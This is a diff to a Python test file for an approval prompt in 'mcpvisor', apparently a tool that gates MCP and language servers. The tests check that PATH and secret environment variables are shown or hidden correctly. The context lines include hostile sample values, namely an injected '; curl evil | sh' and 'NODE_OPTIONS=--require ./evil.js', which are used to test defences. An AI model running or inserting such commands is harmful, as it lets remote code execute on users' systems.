@@ -16,11 +16,13 @@ from typer.testing import CliRunner
 
 from mcpvisor.cli.main import app
 from mcpvisor.core.server_config import McpServerConfig
+from mcpvisor.host.lsp.config import LspServerConfig
 from mcpvisor.host.settings.expand import expand_vars
 from mcpvisor.host.settings.mcp_servers import ServerSource
 from mcpvisor.shell.approval import (
     ApprovalQueue,
     approval_request,
+    lsp_approval_request,
     names_variables,
     parse_choice,
     render_approval_request,
@@ -180,6 +182,28 @@ def test_an_approval_request_shows_what_decides_the_code_that_runs_and_hides_not
     assert '"[conceal]; curl evil | sh[/conceal]"' in shown
     assert "NODE_OPTIONS=--require ./evil.js (decides what code runs)" in shown
     assert "env:     API_KEY (values hidden)" in shown
+    assert "t0ps3cret" not in result.output
+
+
+def test_a_language_servers_approval_shows_the_path_it_runs_under(tmp_path: Path) -> None:
+    entry = {
+        "command": "pylsp",
+        "extensionToLanguage": {".py": "python"},
+        "env": {"PATH": "tools:/usr/bin", "TOKEN": "t0ps3cret"},
+        "scope": "project",
+    }
+    cfg = LspServerConfig.model_validate(entry)
+    console = recording()
+    render_approval_request(console, lsp_approval_request("python", cfg, "project", None))
+    text = console.export_text()
+    assert "    env:     PATH=tools:/usr/bin (decides what code runs)" in text
+    assert "    env:     TOKEN (values hidden)" in text
+    assert "t0ps3cret" not in text
+    layout = make_layout(tmp_path)
+    write_json(layout.paths.lsp_project, {"python": {k: v for k, v in entry.items() if k != "scope"}})
+    result = CliRunner().invoke(app, ["lsp", "approve", "python", "--workspace", str(layout.root)], env=layout.env)
+    assert result.exit_code == 0, result.output
+    assert "PATH=tools:/usr/bin (decides what code runs)" in result.stdout
     assert "t0ps3cret" not in result.output
 
 
